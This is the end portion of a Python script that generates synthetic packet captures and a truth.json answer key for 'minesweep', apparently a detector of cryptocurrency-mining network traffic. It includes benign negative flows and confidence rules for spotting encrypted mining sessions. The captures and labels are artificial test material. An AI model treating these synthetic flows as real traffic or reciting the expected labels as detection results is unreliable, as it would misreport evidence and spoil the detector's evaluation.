    fb.negative(f, "tls-exchange-api", "bot polling api.binance.com (exchange, not a pool) every 4-6 s over TLS 1.3")
    record(f, "exchange-api-binance", "none", [], mining=False, transport="tls1.3", sni="api.binance.com",
           dns_name="api.binance.com", rhythm="client request records every 4-6 s, each answered at once")
    for d in fb.negatives:
        if d["kind"] == "dns" and d["query"] in ("www.wikipedia.org", "github.com", "docs.python.org", "www.example.com",
                                                 "chat.example.org", "api.binance.com"):
            flows.append({"name": f"dns-{d['query']}", "client": d["client"], "client_port": d["client_port"],
                          "server": d["server"], "server_port": 53, "proto": "udp", "transport": "dns", "sni": None,
                          "dns_name": d["query"], "mining": False, "expected_confidence": "none", "identified_by": [],
                          "first_ts": d["ts"]})
    fb.sections["encrypted_evasive"] = {
        "file": cap.name,
        "confidence_levels": {"strong": "a pool named by SNI, certificate or a DNS answer for the server address, or a "
                                        "Stratum V2 Noise handshake (64 -> 234 bytes) followed by SV2-framed turns",
                              "none": "must not be flagged"},
        "flows": flows,
    }
    return fb


BUILDERS = [file_stratum_vlan, file_equihash_sll, file_ethereum_rawip, file_monero_pcapng, file_gbt_null,
            file_midsession_sll2, file_campus, file_encrypted]


def build_all(out_dir: Path) -> dict[str, Any]:
    """Write every sample capture and truth.json into ``out_dir``; return the truth document."""
    out_dir.mkdir(parents=True, exist_ok=True)
    files: dict[str, Any] = {}
    sections: dict[str, Any] = {}
    for builder in BUILDERS:
        fb = builder()
        data = fb.cap.to_bytes()
        (out_dir / fb.cap.name).write_bytes(data)
        for name, extra in fb.extra_files.items():
            (out_dir / name).write_bytes(extra)
        t = fb.truth()
        t["bytes"] = len(data)
        t["sha256"] = hashlib.sha256(data).hexdigest()
        files[fb.cap.name] = t
        sections.update(fb.sections)
    truth = {"generator": GENERATOR, "version": TRUTH_VERSION, "dialects": list(DIALECTS),
             "work_per_share_conventions": WORK_CONVENTIONS, "files": files, **sections}
    (out_dir / "truth.json").write_text(json.dumps(truth, indent=1, sort_keys=False) + "\n")
    return truth


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description="Regenerate minesweep's sample captures and truth.json.")
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent, help="output directory (default: pcaps/)")
    args = ap.parse_args(argv)
    truth = build_all(args.out)
    for name, t in truth["files"].items():
        print(f"{name}: {t['packets']} packets, {t['bytes']} bytes, {len(t['sessions'])} mining sessions")
    return 0


if __name__ == "__main__":
    sys.exit(main())
